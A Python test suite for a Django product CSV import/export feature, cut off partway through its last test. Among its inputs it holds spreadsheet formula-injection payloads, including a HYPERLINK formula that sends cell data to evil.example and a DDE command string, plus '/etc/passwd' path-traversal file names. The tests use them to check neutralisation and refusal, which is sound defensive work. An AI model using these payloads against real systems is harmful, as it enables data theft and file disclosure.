"""Products in and out as CSV: ``import_products`` / ``export_products`` and the admin's
import (preview, confirm) and export, which all share catalog.importing / exporting.

What an operator relies on: a file goes in whole or not at all; every problem is named
by line and column; stock moves only through the ledger; exporting and importing again
changes nothing.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import tempfile
import threading
import time
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.core.management import CommandError, call_command
from django.db import connection, connections
from django.test import Client
from django.test.utils import CaptureQueriesContext

from audit.models import AuditLog
from catalog.exporting import export_csv
from catalog.importing import COLUMNS, ImportRejected, product_import
from catalog.models import Category, Product
from catalog.services import category_create, category_update
from inventory.models import InventoryMovement, Stock
from inventory.services import stock_reserve
from pms_backend.errors import InvalidInput
from pms_backend.events.models import Event

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
PYTHON = str(ROOT / ".venv" / "bin" / "python")
HEADER = ",".join(COLUMNS)


# --- helpers ------------------------------------------------------------------------------


def run(*args: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command(*args, "--no-progress", stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def row(**cells) -> dict[str, str]:
    """A valid row for a new draft product, with ``cells`` replaced."""
    base = {
        "sku": "NEW-1",
        "name": "New shirt",
        "slug": "",
        "description": "",
        "price": "25.00",
        "currency": "EUR",
        "category": "Apparel / Men / Shirts",
        "status": "",
        "on_hand": "",
        "attributes": "",
    }
    return base | cells


def csv_bytes(rows: list[dict[str, str]], header=COLUMNS) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(header), extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode()


def write(tmp_path: Path, content: bytes, name: str = "products.csv") -> str:
    path = tmp_path / name
    path.write_bytes(content)
    return str(path)


def counts() -> dict[str, int]:
    return {
        "products": Product.objects.count(),
        "categories": Category.objects.count(),
        "stock": Stock.objects.count(),
        "movements": InventoryMovement.objects.count(),
        "audit": AuditLog.objects.count(),
        "events": Event.objects.count(),
    }


def catalog_state() -> list[tuple]:
    return list(
        Product.objects.order_by("sku").values_list(
            "sku",
            "name",
            "slug",
            "description",
            "price",
            "currency",
            "category_id",
            "status",
            "published_at",
            "attributes",
            "updated_at",
            "stock__on_hand",
        )
    )


@pytest.fixture
def tree(system_actor):
    apparel = category_create(actor=system_actor, name="Apparel")
    men = category_create(actor=system_actor, name="Men", parent=apparel)
    shirts = category_create(actor=system_actor, name="Shirts", parent=men)
    home = category_create(actor=system_actor, name="Home")
    return {"apparel": apparel, "men": men, "shirts": shirts, "home": home}


@pytest.fixture
def catalog(tree, make_product, receive):
    """Products in every status, with stock, attributes and nested categories."""
    shirt = make_product(
        "published",
        sku="SHIRT-1",
        name="Oxford shirt",
        category=tree["shirts"],
        attributes={"colour": "blue", "size": "M", "weight_g": 180, "organic": True},
        description='Button-down, "slim" fit,\nwith a second line.',
    )
    draft = make_product("draft", sku="MUG-1", name="Mug", category=tree["home"])
    old = make_product("archived", sku="OLD-1", name="Old shirt", category=tree["shirts"])
    loose = make_product("draft", sku="LOOSE-1", name="No category", category=None)
    receive(shirt, 10)
    receive(old, 2)
    return {"shirt": shirt, "draft": draft, "old": old, "loose": loose}


def exported(queryset=None) -> bytes:
    return "".join(export_csv(queryset)).encode()


# --- round trip ---------------------------------------------------------------------------


def test_export_then_import_changes_nothing(catalog, tmp_path):
    path = str(tmp_path / "catalog.csv")
    out, _ = run("export_products", path)
    assert "Exported 4 products" in out
    before, state = counts(), catalog_state()

    out, _ = run("import_products", path)

    assert "4 unchanged" in out and "0 new, 0 updated" in out
    assert counts() == before  # no audit entry, no movement, no event
    assert catalog_state() == state  # not even updated_at
    assert Path(path).read_bytes() == exported()  # and exporting again gives the same file


def test_export_holds_every_column_as_the_import_reads_it(catalog):
    rows = list(csv.DictReader(io.StringIO(exported().decode())))

    assert [r["sku"] for r in rows] == ["SHIRT-1", "MUG-1", "OLD-1", "LOOSE-1"]
    shirt = rows[0]
    assert shirt["category"] == "Apparel / Men / Shirts"
    assert (shirt["price"], shirt["status"], shirt["on_hand"]) == ("19.90", "published", "10")
    assert shirt["description"] == 'Button-down, "slim" fit,\nwith a second line.'
    assert shirt["attributes"] == (
        '{"colour": "blue", "organic": true, "size": "M", "weight_g": 180}'
    )
    assert (rows[1]["on_hand"], rows[1]["attributes"], rows[3]["category"]) == ("0", "", "")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # really starts with a quote before '='
    "''+1",
    "'",
    "'plain",
    " leading space",
    "trailing space ",
]


def test_export_neutralises_formulas_and_import_gives_each_value_back(
    tree, make_product, system_actor, admin_client, tmp_path
):
    """A name a spreadsheet would run leaves with a quote before it; the import takes off
    exactly that quote, so the round trip is exact even for values that start with quotes."""
    sheet = category_create(actor=system_actor, name="=cmd|'-C calc'!A0")
    for number, value in enumerate(FORMULAS):
        make_product(
            sku=f"F-{number}",
            name=value,
            description=value,
            slug=f"-f{number}",
            category=sheet if number == 0 else tree["home"],
        )
    path = str(tmp_path / "catalog.csv")
    run("export_products", path)
    content = Path(path).read_bytes()
    cells = [cell for line in csv.reader(io.StringIO(content.decode())) for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    rows = list(csv.DictReader(io.StringIO(content.decode())))
    assert rows[0]["name"] == "'" + FORMULAS[0]
    assert rows[0]["category"] == "'=cmd|'-C calc'!A0"
    assert [r["name"] for r in rows][6:10] == ["''=1+1", "'''+1", "'", "'plain"]
    assert rows[0]["slug"] == "'-f0"
    admin_export = admin_client.post(EXPORT, {"format": "0", "resource": "0"})
    assert b"".join(admin_export.streaming_content) == content  # the admin's export too
    before, state = counts(), catalog_state()

    out, _ = run("import_products", path)

    assert f"{len(FORMULAS)} unchanged" in out
    assert (counts(), catalog_state()) == (before, state)
    Product.objects.update(name="changed", description="changed")
    run("import_products", path)
    stored = Product.objects.order_by("pk").values_list("name", "description")
    assert list(stored) == [(value, value) for value in FORMULAS]


# --- what an import does ------------------------------------------------------------------


def test_import_creates_updates_and_moves_stock_through_the_ledger(catalog, tmp_path):
    rows = list(csv.DictReader(io.StringIO(exported().decode())))
    rows[0] |= {"price": "24.50", "on_hand": "4"}  # SHIRT-1: price, 10 → 4
    rows[1] |= {"status": "published", "on_hand": "6"}  # MUG-1: publish, 0 → 6
    rows.append(row(sku="NEW-1", on_hand="12", attributes='{"size": "L"}'))
    rows.append(row(sku="NEW-2", name="Second", on_hand="0", status="published"))
    path = write(tmp_path, csv_bytes(rows), "spring.csv")
    before = counts()
    last_audit = AuditLog.objects.order_by("-id").values_list("id", flat=True).first() or 0
    last_event = Event.objects.order_by("-id").values_list("id", flat=True).first() or 0

    out, _ = run("import_products", path)

    assert "2 new, 2 updated, 0 with only a new stock level, 2 unchanged" in out
    assert "3 stock movements" in out
    shirt = Product.objects.get(sku="SHIRT-1")
    assert shirt.price == Decimal("24.50")
    mug = Product.objects.get(sku="MUG-1")
    assert mug.status == "published" and mug.published_at is not None
    new = Product.objects.get(sku="NEW-1")
    assert (new.status, new.slug, new.currency) == ("draft", "new-shirt-new-1", "EUR")
    assert new.category.name == "Shirts" and new.attributes == {"size": "L"}
    second = Product.objects.get(sku="NEW-2")
    assert second.status == "published" and second.published_at is not None

    movements = {
        m.product.sku: m
        for m in InventoryMovement.objects.filter(reason="import spring.csv").select_related(
            "product"
        )
    }
    assert {sku: (m.kind, m.on_hand_delta, m.on_hand_after) for sku, m in movements.items()} == {
        "SHIRT-1": ("adjustment", -6, 4),
        "MUG-1": ("adjustment", 6, 6),
        "NEW-1": ("receipt", 12, 12),
    }
    levels = dict(Stock.objects.values_list("product__sku", "on_hand"))
    assert {sku: levels[sku] for sku in ("SHIRT-1", "MUG-1", "NEW-1")} == {
        "SHIRT-1": 4,
        "MUG-1": 6,
        "NEW-1": 12,
    }
    # The ledger still explains every stock row.
    for stock in Stock.objects.all():
        deltas = InventoryMovement.objects.filter(product_id=stock.product_id)
        assert sum(deltas.values_list("on_hand_delta", flat=True)) == stock.on_hand

    # One summary entry for the products, one entry per movement, stock events as usual.
    summary = AuditLog.objects.get(action="product.imported")
    assert (summary.actor_type, summary.actor_id) == ("system", "import_products")
    assert summary.changes["created"]["after"] == 2
    assert summary.changes["updated"]["after"] == 2
    assert summary.changes["created_skus"]["after"] == ["NEW-1", "NEW-2"]
    assert summary.changes["updated_skus"]["after"] == {
        "SHIRT-1": ["price"],
        "MUG-1": ["publish"],
    }
    stock_entries = AuditLog.objects.filter(action__startswith="stock.", id__gt=summary.id)
    assert sorted(stock_entries.values_list("action", "changes__on_hand__after")) == [
        ("stock.adjustment", 4),
        ("stock.adjustment", 6),
        ("stock.receipt", 12),
    ]
    # Each product is also audited and announced as a single write would be (issue 12):
    # created (as a draft), updated, then one entry and event per transition.
    product_entries = AuditLog.objects.filter(
        action__in=["product.created", "product.updated", "product.published"],
        id__gt=last_audit,
        id__lt=summary.id,
    )
    expected = [
        ("product.created", "NEW-1"),
        ("product.created", "NEW-2"),
        ("product.published", "MUG-1"),
        ("product.published", "NEW-2"),
        ("product.updated", "SHIRT-1"),
    ]
    ids = {p.pk: p.sku for p in Product.objects.all()}
    assert sorted((e.action, ids[int(e.object_id)]) for e in product_entries) == expected
    events = Event.objects.filter(type__startswith="product.", id__gt=last_event)
    assert sorted((e.type, e.data["sku"]) for e in events) == expected
    created = events.get(type="product.created", data__sku="NEW-2").data
    assert (created["status"], created["published_at"]) == ("draft", None)
    published = events.get(type="product.published", data__sku="NEW-2").data
    assert published["status"] == "published" and published["published_at"]
    assert events.get(type="product.updated").data["price"] == "24.50"
    after = counts()
    assert after["audit"] - before["audit"] == 4 + len(expected)
    assert Event.objects.filter(type="stock.updated").count() >= 3
    assert after["products"] - before["products"] == 2


def test_import_moves_status_only_along_the_status_machine(catalog, tmp_path, system_actor):
    rows = [
        row(sku="DRAFT-TO-ARCHIVED", status="archived"),
        row(sku="MUG-1", name="Mug", category="Home", price="19.90", status="archived"),
        row(sku="OLD-1", name="Old shirt", price="19.90", status="published"),
        row(sku="SHIRT-1", name="Oxford shirt", price="19.90", status="draft"),
    ]
    rows[3]["attributes"] = '{"colour": "blue", "size": "M", "weight_g": 180, "organic": true}'
    rows[3]["description"] = catalog["shirt"].description
    run("import_products", write(tmp_path, csv_bytes(rows)))

    status = dict(Product.objects.values_list("sku", "status"))
    assert status["DRAFT-TO-ARCHIVED"] == "archived"  # draft → published → archived
    assert status["MUG-1"] == "archived"
    assert status["OLD-1"] == "published"  # archived → draft → published
    assert status["SHIRT-1"] == "draft"  # unpublished
    assert Product.objects.get(sku="SHIRT-1").published_at is None
    summary = AuditLog.objects.get(action="product.imported").changes["updated_skus"]["after"]
    assert summary["OLD-1"] == ["restore", "publish"]


def test_publishing_by_import_needs_what_publishing_needs(catalog, tmp_path, system_actor):
    category_update(actor=system_actor, category_id=catalog["draft"].category_id, data={
        "is_active": False
    })  # fmt: skip
    path = write(
        tmp_path,
        csv_bytes(
            [
                row(sku="FREE-1", price="0.00", status="published"),
                row(sku="NOCAT-1", category="", status="published"),
                row(sku="MUG-1", name="Mug", category="Home", price="19.90", status="published"),
            ]
        ),
    )
    before = counts()

    with pytest.raises(CommandError):
        run("import_products", path)

    assert counts() == before


def test_create_categories_makes_the_missing_path_through_the_service(tree, tmp_path):
    path = write(tmp_path, csv_bytes([row(category="Apparel / Women / Dresses / Summer")]))

    with pytest.raises(CommandError, match="1 error"):
        run("import_products", path)
    out, _ = run("import_products", path, "--create-categories")

    assert "new categories: Apparel / Women / Dresses / Summer" in out
    product = Product.objects.select_related("category__parent__parent").get(sku="NEW-1")
    assert product.category.name == "Summer"
    assert product.category.parent.parent.name == "Women"
    assert product.category.parent.parent.parent_id == tree["apparel"].pk
    created = AuditLog.objects.filter(action="category.created", actor_id="import_products")
    assert created.count() == 3


def test_dry_run_reports_and_writes_nothing(catalog, tmp_path):
    rows = [row(sku="NEW-1", on_hand="5"), row(sku="MUG-1", name="Renamed mug", category="Home")]
    path = write(tmp_path, csv_bytes(rows))
    before, state = counts(), catalog_state()

    out, _ = run("import_products", path, "--dry-run", "--create-categories")

    assert "Dry run of products.csv, 2 rows: would make 1 new, 1 updated" in out
    assert "1 stock movement" in out and "stock movements" not in out
    assert "Nothing was written." in out
    assert counts() == before and catalog_state() == state


def test_empty_cells_keep_slug_currency_status_and_stock(catalog, tmp_path):
    shirt = catalog["shirt"]
    rows = list(csv.DictReader(io.StringIO(exported().decode())))
    rows[0] |= {"slug": "", "currency": "", "status": "", "on_hand": "", "name": "Renamed"}
    run("import_products", write(tmp_path, csv_bytes(rows[:1])))

    shirt.refresh_from_db()
    assert (shirt.name, shirt.slug, shirt.currency, shirt.status) == (
        "Renamed",
        catalog["shirt"].slug,
        "EUR",
        "published",
    )
    assert shirt.stock.on_hand == 10
    assert not InventoryMovement.objects.filter(reason__startswith="import").exists()


def test_import_reads_stdin_and_a_bom(tree):
    content = b"\xef\xbb\xbf" + csv_bytes([row()])
    report = product_import(
        actor=_actor(), source=_Pipe(content), file_name="stdin", create_categories=False
    )
    assert report.created == 1
    assert Product.objects.filter(sku="NEW-1").exists()


def test_queries_do_not_grow_with_the_rows(tree, tmp_path):
    def import_queries(n: int, prefix: str) -> int:
        rows = [row(sku=f"{prefix}-{i}", name=f"P {i}", on_hand=str(i + 1)) for i in range(n)]
        path = write(tmp_path, csv_bytes(rows), f"{prefix}.csv")
        with CaptureQueriesContext(connection) as queries:
            run("import_products", path)
        return len(queries)

    small, large = import_queries(5, "S"), import_queries(300, "L")
    assert Product.objects.count() == 305
    # Batches (SQLite caps the values per INSERT, hence a few more), never a query per row.
    assert large - small < 300 / 10, (small, large)


# --- refusals: every one names line and column, and writes nothing ------------------------


def _reserve(product, quantity):
    stock_reserve(actor=_actor(), lines={product.pk: quantity}, reference="ORDER-1")


def _actor():
    from audit.actors import Actor

    return Actor.system("tests")


BAD_FILES = {
    "header": (
        lambda: b"sku,name,price\nA,B,1\n",
        [(1, "", "Missing columns slug, description, currency, category, status, on_hand")],
    ),
    "unknown column": (
        lambda: csv_bytes([row()], header=(*COLUMNS, "colour")),
        [(1, "", "Unknown column colour")],
    ),
    "encoding": (
        lambda: csv_bytes([row(sku="OK-1")]) + "X-1,Caf\xe9,,,1.00,EUR,,,,\n".encode("latin-1"),
        [(3, "", "Not UTF-8 (byte 0xe9")],
    ),
    "duplicate sku": (
        lambda: csv_bytes([row(sku="DUP-1"), row(sku="OK-1"), row(sku="DUP-1", name="Again")]),
        [(4, "sku", "DUP-1 appears again (first on line 2)")],
    ),
    "duplicate sku of a bad row": (
        lambda: csv_bytes([row(sku="DUP-1", price="-1"), row(sku="DUP-1")]),
        [(2, "price", "Must not be negative"), (3, "sku", "DUP-1 appears again")],
    ),
    "negative price": (
        lambda: csv_bytes([row(sku="OK-1"), row(sku="NEG-1", price="-3.00")]),
        [(3, "price", "Must not be negative")],
    ),
    "non-numeric price": (
        lambda: csv_bytes([row(price="12,50")]),
        [(2, "price", "is not a number")],
    ),
    "too many decimals": (lambda: csv_bytes([row(price="1.999")]), [(2, "price", "two decimal")]),
    "unknown category": (
        lambda: csv_bytes([row(category="Apparel / Men / Socks")]),
        [(2, "category", "No category 'Apparel / Men / Socks'")],
    ),
    "long name": (lambda: csv_bytes([row(name="x" * 201)]), [(2, "name", "At most 200")]),
    "long sku": (lambda: csv_bytes([row(sku="S" * 65)]), [(2, "sku", "At most 64")]),
    "bad sku": (lambda: csv_bytes([row(sku="no spaces")]), [(2, "sku", "Use 1 to 64")]),
    "bad json": (
        lambda: csv_bytes([row(attributes='{"size": "M",}')]),
        [(2, "attributes", "Not valid JSON")],
    ),
    "json not an object": (
        lambda: csv_bytes([row(attributes="[1, 2]")]),
        [(2, "attributes", "Must be a JSON object")],
    ),
    "status": (lambda: csv_bytes([row(status="deleted")]), [(2, "status", "One of draft")]),
    "on_hand": (lambda: csv_bytes([row(on_hand="-1")]), [(2, "on_hand", "Must not be negative")]),
    "currency": (lambda: csv_bytes([row(currency="eur")]), [(2, "currency", "three-letter")]),
    "cells": (
        lambda: csv_bytes([row()]) + b"ONLY,three,cells\n",
        [(3, "", "Has 3 cells where the header has 10")],
    ),
    "required": (lambda: csv_bytes([row(name="", price="")]), [(2, "name", "Required")]),
    "taken slug": (
        lambda: csv_bytes([row(slug="oxford-shirt-sku-0001")]),
        [(2, "slug", "is already the slug of product SHIRT-1")],
    ),
    "slug twice in file": (
        lambda: csv_bytes([row(sku="A-1", slug="same"), row(sku="B-1", slug="same")]),
        [(3, "slug", "'same' is also the slug of A-1 on line 2")],
    ),
    "empty file": (lambda: b"", [(1, "", "The file is empty")]),
}


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_bad_files_are_refused_whole_with_line_and_column(case, catalog, tmp_path):
    make, expected = BAD_FILES[case]
    content = make()
    if case == "taken slug":
        Product.objects.filter(sku="SHIRT-1").update(slug="oxford-shirt-sku-0001")
    path = write(tmp_path, content)
    before, state = counts(), catalog_state()

    with pytest.raises(ImportRejected) as caught:
        product_import(actor=_actor(), source=open(path, "rb"), file_name="products.csv")  # noqa: SIM115

    errors = caught.value.report.errors
    for line, column, text in expected:
        assert any(e.line == line and e.column == column and text in e.message for e in errors), (
            errors
        )
    assert counts() == before and catalog_state() == state


def test_the_command_lists_every_error_and_exits_non_zero(catalog, tmp_path):
    rows = [row(sku="OK-1"), row(sku="BAD-1", price="abc"), row(sku="BAD-2", attributes="{")]
    path = write(tmp_path, csv_bytes(rows))
    before = counts()
    err = io.StringIO()

    with pytest.raises(CommandError, match="2 errors; nothing was imported"):
        call_command("import_products", path, "--no-progress", stderr=err)

    assert "line 3, price: 'abc' is not a number" in err.getvalue()
    assert "line 4, attributes: Not valid JSON" in err.getvalue()
    assert counts() == before


def test_a_target_below_the_reserved_stock_is_refused(catalog, tmp_path):
    _reserve(catalog["shirt"], 7)
    rows = list(csv.DictReader(io.StringIO(exported().decode())))
    rows[0]["on_hand"] = "5"
    rows.append(row(sku="NEW-1", on_hand="3"))
    before = counts()

    with pytest.raises(ImportRejected) as caught:
        product_import(actor=_actor(), source=io.BytesIO(csv_bytes(rows)))

    (error,) = caught.value.report.errors
    assert (error.line, error.column) == (2, "on_hand")
    assert "5 is below the 7 reserved" in error.message
    assert counts() == before


def test_the_second_pass_refuses_what_changed_since_the_first(catalog, monkeypatch):
    """Stock reserved between the check and the write: the transaction rolls back whole."""
    from catalog import importing

    rows = list(csv.DictReader(io.StringIO(exported().decode())))
    rows[0]["on_hand"] = "5"
    rows.append(row(sku="NEW-1", on_hand="3"))
    original = importing._apply

    def reserve_then_apply(*args, **kwargs):
        _reserve(catalog["shirt"], 8)
        return original(*args, **kwargs)

    monkeypatch.setattr(importing, "_apply", reserve_then_apply)
    before = counts()

    with pytest.raises(ImportRejected) as caught:
        product_import(actor=_actor(), source=io.BytesIO(csv_bytes(rows)))

    assert "5 is below the 8 reserved" in str(caught.value.report.errors[0])
    assert not Product.objects.filter(sku="NEW-1").exists()
    after = counts()
    # Only the reservation itself (its movement, audit entry and events) was written.
    assert after["products"] == before["products"]
    assert after["movements"] == before["movements"] + 1


# --- size limit ---------------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused_before_reading(tmp_path, monkeypatch):
    path = tmp_path / "huge.csv"
    with open(path, "wb") as f:
        f.truncate(1024**3)  # 1 GB, sparse: costs no disk
    opened = []
    monkeypatch.setattr("builtins.open", lambda *a, **k: opened.append(a) or 1 / 0)

    with pytest.raises(CommandError, match="1,024 MB; the import limit is 200 MB"):
        run("import_products", str(path))
    assert opened == []


def test_a_pipe_over_the_size_limit_is_refused(settings):
    settings.PMS_IMPORT_MAX_BYTES = 1000
    content = csv_bytes([row(sku=f"S-{i}") for i in range(50)])

    with pytest.raises(InvalidInput) as caught:
        product_import(actor=_actor(), source=_Pipe(content))
    assert caught.value.code == "import_too_large"
    assert Product.objects.count() == 0


class _Pipe(io.RawIOBase):
    """A non-seekable byte stream, like stdin."""

    def __init__(self, data: bytes) -> None:
        self._data = io.BytesIO(data)

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return False

    def readinto(self, buffer) -> int:
        chunk = self._data.read(len(buffer))
        buffer[: len(chunk)] = chunk
        return len(chunk)


# --- as real processes: exit codes, stdout and stderr --------------------------------------


@pytest.fixture(scope="module")
def manage(tmp_path_factory):
    folder = tmp_path_factory.mktemp("importing")
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(folder),
        "DJANGO_DEBUG": "true",
        "DATABASE_URL": f"sqlite:///{folder / 'db.sqlite3'}",
        "CELERY_BROKER_DIR": str(folder / "broker"),
        "LOG_LEVEL": "WARNING",
    }

    def manage(*args: str, stdin: bytes = b"") -> subprocess.CompletedProcess:
        return subprocess.run(
            [PYTHON, "manage.py", *args],
            cwd=ROOT,
            env=env,
            input=stdin,
            capture_output=True,
            timeout=120,
        )

    assert manage("migrate", "--noinput", "-v0").returncode == 0
    return manage


def test_stdin_to_stdout_as_processes(manage):
    content = csv_bytes([row(sku="PIPE-1", category="", on_hand="3")])

    imported = manage("import_products", "-", "--no-progress", stdin=content)
    assert imported.returncode == 0, imported.stderr
    assert b"Imported stdin, 1 row: 1 new" in imported.stdout

    exported_ = manage("export_products", "-", "--no-progress")
    assert exported_.returncode == 0, exported_.stderr
    lines = exported_.stdout.decode().splitlines()
    assert lines[0] == HEADER
    assert lines[1].startswith("PIPE-1,New shirt,new-shirt-pipe-1,") and lines[1].endswith(",3,")
    assert b"Exported 1 product to stdout." in exported_.stderr


def test_a_bad_file_exits_1_with_the_errors_on_stderr(manage, tmp_path):
    path = write(tmp_path, csv_bytes([row(sku="X-1", price="-1")]))

    result = manage("import_products", path)

    assert result.returncode == 1
    assert result.stdout == b""
    assert b"line 2, price: Must not be negative." in result.stderr
    assert b"CommandError: products.csv: 1 error; nothing was imported." in result.stderr
    assert b"Traceback" not in result.stderr


def test_export_to_a_file_leaves_no_partial_file_on_failure(catalog, tmp_path, monkeypatch):
    from catalog.management.commands import export_products

    def broken(*args, **kwargs):
        yield "sku,name\n"
        raise RuntimeError("database went away")

    monkeypatch.setattr(export_products, "export_csv", broken)
    target = tmp_path / "out.csv"
    target.write_text("the previous export\n")

    with pytest.raises(RuntimeError):
        run("export_products", str(target))

    assert target.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


# --- the admin ----------------------------------------------------------------------------

IMPORT = "/admin/catalog/product/import/"
PROCESS = "/admin/catalog/product/process_import/"
EXPORT = "/admin/catalog/product/export/"


def upload(content: bytes, name: str = "upload.csv", **extra):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return {"import_file": SimpleUploadedFile(name, content, "text/csv"), "format": "0"} | extra


def test_admin_import_previews_then_confirms_through_the_same_importer(catalog, admin_client):
    rows = list(csv.DictReader(io.StringIO(exported().decode())))
    rows[0]["price"] = "29.00"
    rows.append(row(sku="ADMIN-1", on_hand="4", category="Home / Kitchen"))
    before = counts()

    assert admin_client.get(IMPORT).status_code == 200
    preview = admin_client.post(
        IMPORT, upload(csv_bytes(rows), "spring.csv", create_categories="on")
    )

    assert preview.status_code == 200
    page = preview.content.decode()
    assert "Confirm import" in page
    assert "would make 1 new, 1 updated" in page and "3 unchanged" in page
    assert "<del>19.90</del> <ins>29.00</ins>" in page
    assert "ADMIN-1" in page
    assert counts() == before  # the preview is a dry run

    confirm = preview.context["confirm_form"]
    response = admin_client.post(
        PROCESS, {name: confirm[name].value() for name in confirm.fields}, follow=True
    )

    assert response.redirect_chain[-1][0] == "/admin/catalog/product/"
    assert "Imported spring.csv, 5 rows: 1 new, 1 updated" in response.content.decode()
    assert Product.objects.get(sku="SHIRT-1").price == Decimal("29.00")
    new = Product.objects.select_related("category").get(sku="ADMIN-1")
    assert new.category.name == "Kitchen" and new.stock.on_hand == 4
    entry = AuditLog.objects.get(action="product.imported")
    assert (entry.actor_type, entry.actor_label) == ("user", "user:boss")
    assert InventoryMovement.objects.get(reason="import spring.csv").kind == "receipt"


def test_admin_import_shows_each_bad_row_and_offers_no_confirm(catalog, admin_client):
    content = csv_bytes([row(sku="OK-1"), row(sku="BAD-1", price="-2"), row(sku="OK-1")])
    before = counts()

    response = admin_client.post(IMPORT, upload(content))

    page = response.content.decode()
    assert response.status_code == 200
    assert "Confirm import" not in page
    assert "2 errors in upload.csv" in page
    assert "Must not be negative." in page and "OK-1 appears again (first on line 2)." in page
    invalid = {r.number: r.error_dict for r in response.context["result"].invalid_rows}
    assert invalid == {
        3: {"price": ["Must not be negative."]},
        4: {"sku": ["OK-1 appears again (first on line 2)."]},
    }
    assert counts() == before


def test_admin_import_refuses_a_file_that_is_not_utf8(catalog, admin_client):
    content = HEADER.encode() + b"\nX-1,Caf\xe9,,,1.00,EUR,,,,\n"

    response = admin_client.post(IMPORT, upload(content))

    assert "Not UTF-8 (byte 0xe9" in response.content.decode()
    assert Product.objects.filter(sku="X-1").count() == 0


def test_admin_import_refuses_an_upload_over_its_limit(catalog, admin_client, settings):
    settings.PMS_ADMIN_IMPORT_MAX_BYTES = 100
    before = counts()

    response = admin_client.post(IMPORT, upload(csv_bytes([row()] * 3)))

    assert "Use manage.py import_products for larger files." in response.content.decode()
    assert counts() == before


def test_admin_confirm_that_meets_a_changed_catalog_imports_nothing(catalog, admin_client):
    rows = list(csv.DictReader(io.StringIO(exported().decode())))
    rows[0]["on_hand"] = "5"
    preview = admin_client.post(IMPORT, upload(csv_bytes(rows)))
    confirm = preview.context["confirm_form"]
    _reserve(catalog["shirt"], 9)  # meanwhile, an order
    before = counts()

    response = admin_client.post(
        PROCESS, {name: confirm[name].value() for name in confirm.fields}, follow=True
    )

    assert "Nothing was imported: line 2, on_hand: 5 is below the 9 reserved" in (
        response.content.decode()
    )
    assert counts() == before


def test_admin_import_and_export_need_their_permissions(catalog, client):
    user = get_user_model().objects.create_user(username="viewer", password="x", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_product"))
    client.force_login(user)

    assert client.get(IMPORT).status_code == 403
    assert client.post(PROCESS, {}).status_code == 403
    assert client.post(EXPORT, {"format": "0", "resource": "0"}).status_code == 200

    for codename in ("add_product", "change_product", "add_inventorymovement"):
        user.user_permissions.add(Permission.objects.get(codename=codename))
    user = get_user_model().objects.get(pk=user.pk)
    client.force_login(user)
    page = client.get(IMPORT).content.decode()
    assert "File to import" in page
    assert "Create missing categories" not in page  # needs catalog.add_category


def test_admin_export_streams_the_same_csv_as_the_command(catalog, admin_client, tmp_path):
    response = admin_client.post(EXPORT, {"format": "0", "resource": "0"})

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="Product-')
    body = b"".join(response.streaming_content)
    path = str(tmp_path / "command.csv")
    run("export_products", path)
    assert body == Path(path).read_bytes()


def test_admin_export_follows_the_list_filters(catalog, admin_client):
    response = admin_client.post(EXPORT + "?status__exact=draft", {"format": "0", "resource": "0"})

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(r["sku"] for r in rows) == ["LOOSE-1", "MUG-1"]


def test_the_product_list_offers_import_and_export(catalog, admin_client):
    page = admin_client.get("/admin/catalog/product/").content.decode()

    assert IMPORT in page and EXPORT in page


# --- the confirmation step takes only the uploader's own upload ---------------------------

IMPORTER = ("catalog.add_product", "catalog.change_product", "inventory.add_inventorymovement")
REFUSED = "Nothing was imported: this confirmation does not belong to an upload of yours"


def _previewed(client, content: bytes, name: str) -> dict:
    """Upload ``content`` for a preview; return the confirmation form's fields as posted."""
    preview = client.post(IMPORT, upload(content, name))
    confirm = preview.context["confirm_form"]
    return {field: confirm[field].value() for field in confirm.fields}


def test_admin_confirm_takes_only_the_uploaders_own_upload(catalog, admin_client, make_staff):
    fields = _previewed(admin_client, csv_bytes([row(sku="ALICE-1")]), "alice.csv")
    mallory = make_staff(*IMPORTER, username="mallory")
    other_login = Client()  # the same user, logged in elsewhere
    other_login.force_login(get_user_model().objects.get(username="boss"))
    before = counts()

    for intruder in (mallory, other_login):
        response = intruder.post(PROCESS, fields, follow=True)

        assert response.redirect_chain[-1][0] == IMPORT
        assert REFUSED in response.content.decode()
        assert counts() == before
    assert not Product.objects.filter(sku="ALICE-1").exists()

    mine = admin_client.post(PROCESS, fields, follow=True)  # untouched by the attempts

    assert "Imported alice.csv, 1 row: 1 new" in mine.content.decode()
    assert Product.objects.filter(sku="ALICE-1").exists()
    again = admin_client.post(PROCESS, fields, follow=True)
    assert REFUSED in again.content.decode()  # a ticket imports once


@pytest.mark.parametrize(
    "name",
    ["tampered", "foreign csv", "secret file", "../../../../etc/passwd", "/etc/passwd"],
)
def test_admin_confirm_refuses_a_tampered_or_foreign_file_name(name, catalog, admin_client):
    fields = _previewed(admin_client, csv_bytes([row(sku="MINE-1")]), "mine.csv")
    planted = Path(tempfile.gettempdir()) / f"pms-test-{os.getpid()}-{name.replace(' ', '-')}"
    if name == "tampered":
        ticket = fields["import_file_name"]
        name = ticket[:-3] + ("AAA" if ticket[-3:] != "AAA" else "BBB")
    elif name == "foreign csv":  # another upload, under the name the library would give it
        planted.write_bytes(csv_bytes([row(sku="PLANTED-1")]))
        name = planted.name
    elif name == "secret file":  # not a CSV: its first line used to come back as an error
        planted.write_text("TOP-SECRET-LINE\n")
        name = planted.name
    before = counts()

    try:
